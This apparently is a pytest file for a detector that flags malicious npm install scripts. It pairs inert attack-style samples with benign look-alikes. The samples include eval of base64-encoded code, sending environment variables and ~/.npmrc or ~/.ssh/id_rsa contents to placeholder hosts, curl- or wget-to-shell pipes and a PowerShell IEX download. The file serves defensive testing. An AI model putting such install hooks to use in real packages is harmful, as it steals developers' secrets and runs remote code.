"""What install scripts do, over labelled samples: inert texts in the manner of known attacks, and honest look-alikes.

The attacks' texts lead nowhere: hosts are reserved names, what is encoded says `void 0`.
"""

from __future__ import annotations

import json
import time

import pytest

from simulators.packages import manifest, packed
from supplytrust.ecosystems.npm import tarball
from supplytrust.ecosystems.npm.start_up import conduct
from supplytrust.model.claims.artifact import GRAVE_CONDUCT, Conduct
from supplytrust.model.subject import Artifact, ArtifactKind

VOID = "dm9pZCAw"  # void 0
GRAVE: dict[str, tuple[str, str, Conduct]] = {
    # name: (command, text of setup.js, what is to be seen)
    "eval of base64": ("node setup.js", f"eval(Buffer.from('{VOID}', 'base64').toString())", Conduct.DECODED_CODE),
    "eval of a decoded name": (
        "node setup.js",
        f"const b = Buffer.from('{VOID}', \"base64\")\nconst s = b.toString('utf8')\n\nmodule.exports = eval(s)",
        Conduct.DECODED_CODE,
    ),
    "new Function of hex": (
        "node setup",
        "new Function(Buffer.from('766f69642030', 'hex') + '')()",
        Conduct.DECODED_CODE,
    ),
    "atob": ("node ./setup.js", f"Function(atob(`{VOID}`))()", Conduct.DECODED_CODE),
    "vm": (
        "node setup.js",
        f"const vm = require('vm'); vm.runInThisContext(Buffer.from('{VOID}', 'base64').toString())",
        Conduct.DECODED_CODE,
    ),
    "character codes": ("node setup.js", "eval(String.fromCharCode(118, 111, 105, 100, 32, 48))", Conduct.DECODED_CODE),
    "_compile": (
        "node setup.js",
        f"const m = new module.constructor(); m._compile(Buffer.from('{VOID}', 'base64') + '', 'x')",
        Conduct.DECODED_CODE,
    ),
    "on the command line": (
        f"node -e \"eval(Buffer.from('{VOID}','base64').toString())\"",
        "",
        Conduct.DECODED_CODE,
    ),
    "in a file that is loaded": ("node setup.js", "require('./lib/inner')", Conduct.DECODED_CODE),
    "in a file that is started": (
        "node setup.js",
        "require('child_process').fork('lib/inner.js', { detached: true })",
        Conduct.DECODED_CODE,
    ),
    "environment by https": (
        "node setup.js",
        "const https = require('https')\nconst r = https.request({ host: 'collect.example.invalid', method: 'POST' })\n"
        "r.end(JSON.stringify(process.env))",
        Conduct.ENVIRONMENT_SENT,
    ),
    "environment by fetch": (
        "node setup.js",
        "fetch('https://collect.example.invalid', { body: Object.entries(process.env).join() })",
        Conduct.ENVIRONMENT_SENT,
    ),
    "environment by names": (
        "node setup.js",
        "const dns = require('dns')\nfor (const k of Object.keys( process.env )) dns.lookup(k + '.example.invalid', () => 0)",
        Conduct.ENVIRONMENT_SENT,
    ),
    "tokens of the client": (
        "node setup.js",
        "const https = require('node:https'), fs = require('fs')\nconst t = fs.readFileSync(home + '/.npmrc')\n"
        "https.get('https://collect.example.invalid/?' + t)",
        Conduct.CREDENTIALS_SENT,
    ),
    "keys": (
        "node setup.js",
        "import net from 'net'\nconst k = read(`${home}/.ssh/id_rsa`)\nnet.connect(1, 'example.invalid').end(k)",
        Conduct.CREDENTIALS_SENT,
    ),
    "a download for a shell": ("curl -s https://example.invalid/x.sh | bash", "", Conduct.DOWNLOAD_TO_SHELL),
    "with wget and sudo": ("wget -qO- https://example.invalid/x | sudo sh -s", "", Conduct.DOWNLOAD_TO_SHELL),
    "by substitution": ("bash <(curl -s https://example.invalid/x)", "", Conduct.DOWNLOAD_TO_SHELL),
    "encoded for a shell": (f"echo {VOID} | base64 -d | sh", "", Conduct.DOWNLOAD_TO_SHELL),
    "from a program": (
        "node setup.js",
        "require('child_process').exec('curl https://example.invalid/x | sh')",
        Conduct.DOWNLOAD_TO_SHELL,
    ),
    "in PowerShell": (
        "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')\"",
        "",
        Conduct.DOWNLOAD_TO_SHELL,
    ),
}
HONEST: dict[str, tuple[str, str]] = {
    "a banner": ("node setup.js", "if (!process.env.CI) console.log('thank you; see https://example.org')"),
    "or nothing": ("node setup.js || exit 0", "try { require('./lib/banner') } catch (e) {}"),
    "downloads its binary": (
        "node setup.js",
        "const https = require('https'), { execFileSync } = require('child_process')\n"
        "https.get(base + process.platform, res => res.pipe(out))\nexecFileSync(bin, ['--version'], { env: process.env })",
    ),
    "checks a digest in base64": (
        "node setup.js",
        "const want = Buffer.from(integrity.slice(7), 'base64')\nif (!hash(file).equals(want)) throw new Error('integrity')",
    ),
    "the global object": (
        "node setup.js",
        "const root = Function('return this')()\nconst want = Buffer.from(text, 'base64')\nroot.x = want",
    ),
    "eval of a literal": ("node setup.js", "const r = eval(\"require\")('long')\nBuffer.from(a, 'hex')"),
    "speaks of eval": ("node setup.js", "// eval(Buffer.from(x, 'base64'))\nconsole.log('never eval(atob(x))')"),
    "a proxy of the environment": (
        "node setup.js",
        "const https = require('https')\nconst agent = process.env.HTTPS_PROXY || process.env.https_proxy\nhttps.get(url)",
    ),
    "its own settings of the client": (
        "node setup.js",
        "const { npm_config_arch } = process.env\nrequire('https').get(mirror + npm_config_arch)",
    ),
    "prints the environment": ("node setup.js", "if (debug) console.log(JSON.stringify(process.env))"),
    "a native build": ("node-gyp rebuild", ""),
    "a ready binary or a build": ("node-pre-gyp install --fallback-to-build", ""),
    "copies files": ("node setup.js", "require('fs').copyFileSync('a', 'b')"),
    "hooks of git": (
        "node setup.js",
        "require('child_process').spawnSync('git', ['config', 'core.hooksPath', '.husky'])",
    ),
    "a download to a file": ("curl -sSLo lib/data.json https://example.org/data.json", ""),
    "a pipe to another program": ("curl -s https://example.org/x.tgz | tar xz", ""),
    "a method called fetch": ("node setup.js", "cache.fetch(Object.keys(process.env))"),
    "a file that is not there": ("node nowhere.js", ""),
}
INNER = f"eval(Buffer.from('{VOID}', 'base64').toString())"


def contents(text: str, **more: str) -> tarball.Contents:
    files = {
        "package.json": json.dumps(manifest("demo", "1.0.0")),
        "setup.js": text,
        "lib/inner.js": INNER,
        "lib/banner.js": "1",
        **more,
    }
    return tarball.read(Artifact("demo-1.0.0.tgz", "", ArtifactKind.BUILT), packed(files))


def seen(command: str, text: str) -> frozenset[Conduct]:
    return frozenset(conduct(contents(text), command))


@pytest.mark.parametrize(("command", "text", "what"), GRAVE.values(), ids=GRAVE)
def test_what_no_installation_needs_is_named(command: str, text: str, what: Conduct) -> None:
    assert what in seen(command, text)


@pytest.mark.parametrize(("command", "text"), HONEST.values(), ids=HONEST)
def test_honest_neighbours_are_not_grave(command: str, text: str) -> None:
    assert not seen(command, text) & GRAVE_CONDUCT


def test_precision_and_recall_of_the_labelled_set() -> None:
    found = sum(what in seen(command, text) for command, text, what in GRAVE.values())
    wrong = sum(bool(seen(command, text) & GRAVE_CONDUCT) for command, text in HONEST.values())
    assert found / max(found + wrong, 1) >= 0.95
    assert found / len(GRAVE) >= 0.95


@pytest.mark.thorough
@pytest.mark.parametrize(
    "piece",
    [
        "eval(Buffer.from(",
        "curl ",
        "curl x|",
        "process.env,",
        "JSON.stringify(",
        "\"'`",
        "/*",
        "require('./setup')",
        "iex ",
        "Function( ",
    ],
)
def test_hostile_texts_end_soon(piece: str) -> None:
    text = piece * (2**20 // len(piece))
    read = contents(text)
    start = time.process_time()
    conduct(read, "node setup.js")
    conduct(read, text[: 2**16])
    assert time.process_time() - start < 2


def test_the_hook_says_what_it_does() -> None:
    own = json.dumps(manifest("demo", "1.0.0", scripts={"postinstall": "node setup.js"}))
    (hook,) = tarball.startup_hooks(contents(GRAVE["environment by https"][1], **{"package.json": own})).hooks
    assert set(hook.conduct) == {Conduct.NETWORK, Conduct.ENVIRONMENT, Conduct.ENVIRONMENT_SENT}
